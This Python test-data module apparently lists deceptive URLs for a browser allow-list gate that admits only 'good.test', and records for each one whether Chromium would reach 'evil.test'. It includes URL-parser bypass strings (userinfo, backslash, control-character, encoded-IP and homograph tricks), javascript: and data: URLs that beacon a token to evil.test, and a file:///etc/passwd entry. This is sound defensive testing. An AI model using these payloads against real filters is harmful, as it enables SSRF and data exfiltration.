"""Addresses written to deceive, each with whether an ungated browser would carry it to evil.

`TOKEN` stands where the test writes its mark. GOOD is the one host of the policy (http, port 80).
"""

from typing import NamedTuple

GOOD = "good.test"
EVIL = "evil.test"
TOKEN = "TOKEN"
CYRILLIC_O = "\u043e"
LONG = "a" * 100_000


class Hostile(NamedTuple):
    """One address; *why_never* says why Chromium itself sends nothing to evil (else it does)."""

    name: str
    url: str
    why_never: str = ""


_NO_URL = "the browser reads no address in it"
_TO_GOOD = "it leads to the good host: refused for how it is written"
_NO_REQUEST = "the scheme makes no request to a host"
_SCHEME_OF_OTHERS = "the browser hands it to no server"
_TLS = "only a TLS greeting is sent, which bears no mark"
_NO_PORT = "the browser refuses the port"

HOSTILE: tuple[Hostile, ...] = (
    # --- a user before the host
    Hostile("user and password", "http://good.test:pw@evil.test/TOKEN"),
    Hostile("user", "http://good.test@evil.test/TOKEN"),
    Hostile("user with an encoded blank", "http://good.test%20@evil.test/TOKEN"),
    Hostile("user with an encoded port", "http://good.test%3a80@evil.test/TOKEN"),
    Hostile("user with an encoded slash", "http://good.test%2f@evil.test/TOKEN"),
    Hostile("user, port and host", "http://good.test:80@evil.test:80/TOKEN"),
    Hostile("two at signs", "http://good.test@good.test@evil.test/TOKEN"),
    Hostile("user with an ampersand", "http://good.test&@evil.test/TOKEN#@good.test/"),
    Hostile("user of the good host", "http://me:pw@good.test/TOKEN", _TO_GOOD),
    Hostile("password of the good host", "http://:pw@good.test/TOKEN", _TO_GOOD),
    # --- slashes and backslashes
    Hostile("backslash before the at", "http://evil.test\\@good.test/TOKEN"),
    Hostile("backslash before a suffix", "http://good.test\\.evil.test/TOKEN", _TO_GOOD),
    Hostile("backslashes for slashes", "http:\\\\evil.test\\TOKEN"),
    Hostile("mixed slashes", "http:/\\evil.test/TOKEN"),
    Hostile("port and backslash", "http://evil.test:80\\good.test/TOKEN"),
    Hostile("no slashes", "http:evil.test/TOKEN"),
    Hostile("three slashes", "http:///evil.test/TOKEN"),
    Hostile("four slashes and a user", "http:////good.test@evil.test/TOKEN"),
    # --- what parsers strip
    Hostile("tab in the scheme", "ht\ttp://evil.test/TOKEN"),
    Hostile("line feed in the scheme", "ht\ntp://evil.test/TOKEN"),
    Hostile("carriage return in the scheme", "ht\rtp://evil.test/TOKEN"),
    Hostile("line feed in the host", "http://ev\nil.test/TOKEN"),
    Hostile("tab between two hosts", "http://good.test\t.evil.test/TOKEN"),
    Hostile("tab in a user", "http://good.test\t@evil.test/TOKEN"),
    Hostile("leading blanks", "   http://evil.test/TOKEN"),
    Hostile("leading control character", "\x01http://evil.test/TOKEN"),
    Hostile("leading line feed", "\nhttp://evil.test/TOKEN"),
    Hostile("trailing blank", "http://evil.test/TOKEN "),
    Hostile("leading byte order mark", "\ufeffhttp://evil.test/TOKEN", _NO_URL),
    Hostile("leading no-break space", "\u00a0http://evil.test/TOKEN", _NO_URL),
    Hostile("line separator in the host", "http://good.test\u2028.evil.test/TOKEN", _NO_URL),
    Hostile("next line in the host", "http://good.test\u0085.evil.test/TOKEN", _NO_URL),
    Hostile("ideographic space in the host", "http://good.test\u3000.evil.test/TOKEN"),
    Hostile("null in the host", "http://good.test\x00.evil.test/TOKEN", _NO_URL),
    Hostile("lone surrogate in the host", "http://good.test\ud800.evil.test/TOKEN", _NO_URL),
    Hostile("line separator in the path", "http://evil.test/\u2028TOKEN"),
    # --- what must not be in a host
    *(
        Hostile(f"{mark} in the host", f"http://good.test{mark}.evil.test/TOKEN", _NO_URL)
        for mark in ("%00", "%09", "%2f", "%5c", "%23", "%40", "%3a", "^", "|", "<")
    ),
    Hostile("%20 in the host", "http://good.test%20.evil.test/TOKEN"),
    Hostile("semicolon in the host", "http://good.test;.evil.test/TOKEN"),
    Hostile("underscore in the host", "http://good_test.evil.test/TOKEN"),
    Hostile("good host in brackets", "http://[good.test]/TOKEN", _NO_URL),
    Hostile("future address in brackets", "http://good.[v1.evil.test]/TOKEN", _NO_URL),
    # --- neighbours of the good host
    Hostile("suffix host", "http://good.test.evil.test/TOKEN"),
    Hostile("prefix host", "http://xgood.test/TOKEN"),
    Hostile("longer top domain", "http://good.testing/TOKEN"),
    Hostile("hyphen host", "http://good.test-evil.test/TOKEN"),
    Hostile("parent domain", "http://test/TOKEN"),
    Hostile("sub-domain", "http://www.good.test/TOKEN"),
    Hostile("trailing dot", "http://good.test./TOKEN"),
    Hostile("two trailing dots", "http://good.test../TOKEN"),
    Hostile("other port", "http://good.test:8080/TOKEN"),
    Hostile("port of https", "http://good.test:443/TOKEN"),
    Hostile("port zero", "http://good.test:0/TOKEN", _NO_PORT),
    Hostile("port past the end", "http://good.test:65616/TOKEN", _NO_URL),
    Hostile("port with a sign", "http://good.test:+80/TOKEN", _NO_URL),
    Hostile("https", "https://good.test/TOKEN", _TLS),
    Hostile("https on port 80", "https://good.test:80/TOKEN", _NO_URL),
    # --- addresses in numbers
    Hostile("address", "http://127.0.0.1/TOKEN"),
    Hostile("decimal address", "http://2130706433/TOKEN"),
    Hostile("hexadecimal address", "http://0x7f000001/TOKEN"),
    Hostile("octal address", "http://017700000001/TOKEN"),
    Hostile("octal parts", "http://0177.0.0.01/TOKEN"),
    Hostile("mixed parts", "http://0x7f.0.0x0.1/TOKEN"),
    Hostile("short address", "http://127.1/TOKEN"),
    Hostile("address zero", "http://0/TOKEN"),
    Hostile("address with a dot", "http://127.0.0.1./TOKEN"),
    Hostile("encoded address", "http://%31%32%37.0.0.1/TOKEN"),
    Hostile("full-width digits", "http://\uff11\uff12\uff17.0.0.1/TOKEN"),
    Hostile("full-width dots", "http://127\u30020\u30020\u30021/TOKEN"),
    Hostile("circled digits", "http://\u2460\u2461\u2466.0.0.1/TOKEN"),
    Hostile("address past the end", "http://256.0.0.1/TOKEN", _NO_URL),
    Hostile("IPv6", "http://[::1]/TOKEN"),
    Hostile("long IPv6", "http://[0:0:0:0:0:0:0:1]/TOKEN"),
    Hostile("IPv4 in IPv6", "http://[::ffff:127.0.0.1]/TOKEN"),
    Hostile("IPv4 in hexadecimal IPv6", "http://[::ffff:7f00:1]/TOKEN"),
    Hostile("IPv6 with a zone", "http://[fe80::1%25lo]/TOKEN", _NO_URL),
    # --- other alphabets
    Hostile("homograph", f"http://g{CYRILLIC_O}{CYRILLIC_O}d.test/TOKEN"),
    Hostile("punycode", "http://xn--gd-jmca.test/TOKEN"),
    Hostile("sharp s", "http://fa\u00df.evil.test/TOKEN"),
    Hostile("umlaut", "http://b\u00fccher.evil.test/TOKEN"),
    Hostile("upper case", "HTTP://EVIL.TEST/TOKEN"),
    Hostile("full-width evil", "http://\uff45vil.test/TOKEN"),
    Hostile("encoded evil", "http://%65vil.test/TOKEN"),
    Hostile("soft hyphen in evil", "http://ev\u00adil.test/TOKEN"),
    # --- where the good host is only decoration
    Hostile("good host in the path", "http://evil.test/TOKEN/http://good.test/"),
    Hostile("good host in the query", "http://evil.test?@good.test/TOKEN"),
    Hostile("good host in the fragment", "http://evil.test/TOKEN#@good.test/"),
    Hostile("long path", f"http://evil.test/TOKEN/{LONG}"),
    Hostile("long query", f"http://evil.test/TOKEN?good.test={LONG}"),
    Hostile("long user", f"http://good.test{LONG[:2000]}@evil.test/TOKEN"),
    # --- other schemes
    Hostile("data", "data:text/html,<img src=http://evil.test/TOKEN>"),
    Hostile("encoded data", "data:text/html;base64,PGI+eDwvYj4=", _NO_REQUEST),
    Hostile("blob", "blob:http://evil.test/TOKEN", _NO_REQUEST),
    Hostile("blob of the good host", "blob:http://good.test/TOKEN", _NO_REQUEST),
    Hostile("script", "javascript:void(new Image().src='http://evil.test/TOKEN')"),
    Hostile(
        "script with the good host", "javascript://good.test/%0avoid(fetch('//evil.test/TOKEN'))"
    ),
    Hostile("source view", "view-source:http://evil.test/TOKEN"),
    Hostile("source view twice", "view-source:view-source:http://evil.test/TOKEN", _NO_REQUEST),
    Hostile("source view of the good host", "view-source:http://good.test/TOKEN", _TO_GOOD),
    Hostile("file", "file:///etc/passwd", _NO_REQUEST),
    Hostile("file of a host", "file://evil.test/TOKEN", _NO_REQUEST),
    Hostile("blank page", "about:blank", _NO_REQUEST),
    Hostile("blank page with a name", "about:blank#TOKEN", _NO_REQUEST),
    Hostile("browser page", "chrome://version/", _NO_REQUEST),
    Hostile("browser page by about", "about:version", _NO_REQUEST),
    Hostile("crash page", "chrome://kill/", _NO_REQUEST),
    Hostile("extension", "chrome-extension://mhjfbmdgcfjbbpaeojofohoefgiehjai/x", _NO_REQUEST),
    Hostile("developer tools", "devtools://devtools/bundled/inspector.html", _NO_REQUEST),
    Hostile("file system", "filesystem:http://evil.test/temporary/TOKEN", _NO_REQUEST),
    Hostile("web socket", "ws://good.test/TOKEN", _NO_REQUEST),
    Hostile("safe web socket", "wss://evil.test/TOKEN", _NO_REQUEST),
    Hostile("ftp", "ftp://evil.test/TOKEN", _SCHEME_OF_OTHERS),
    Hostile("intent", "intent://evil.test/TOKEN#Intent;scheme=http;end", _SCHEME_OF_OTHERS),
    Hostile("mail", "mailto:x@evil.test?body=TOKEN", _SCHEME_OF_OTHERS),
    Hostile("feed", "feed:http://evil.test/TOKEN", _SCHEME_OF_OTHERS),
    Hostile("archive", "jar:http://evil.test/TOKEN!/", _SCHEME_OF_OTHERS),
    Hostile("unknown scheme", "httpx://good.test/TOKEN", _SCHEME_OF_OTHERS),
    # --- hardly an address
    Hostile("nothing", "", _NO_URL),
    Hostile("no host", "http://", _NO_URL),
    Hostile("an at and no host", "http://@/TOKEN", _NO_URL),
    Hostile("a port and no host", "http://:80/TOKEN", _NO_URL),
    Hostile("no scheme", "//evil.test/TOKEN"),
    Hostile("host alone", "good.test/TOKEN", _NO_URL),
    Hostile("dots alone", "http://.../TOKEN"),
)

# Chromium takes a blank in a host, the standard and ada do not: they are refused all the same.
ONLY_CHROMIUM_READS = frozenset({"ideographic space in the host", "%20 in the host"})

# All of these are the good host to the browser, so they must pass.
ALLOWED: tuple[str, ...] = (
    "http://good.test/TOKEN",
    "http://good.test:80/TOKEN",
    "http://good.test:080/TOKEN",
    "http://GOOD.test/TOKEN?x=http://evil.test/#@evil.test",
    "http://good.test/TOKEN/a@b/c%5Cd?back=//evil.test",
    "http://good.test/TOKEN/\u62a5\u8868?\u6708\u4efd=2026-03",
    "http://good.test?TOKEN#.evil.test/",
    "http://good.test/TOKEN?path=C:\\x\\@evil.test#a\\b",
    "http://\uff47ood.test/TOKEN",
    "http://g%6fod.test/TOKEN",
    f"http://good.test/TOKEN/{'a' * 8_000}",
)


def spelled(url: str, token: str) -> str:
    """Return *url* with *token* where it says TOKEN."""
    return url.replace(TOKEN, token)
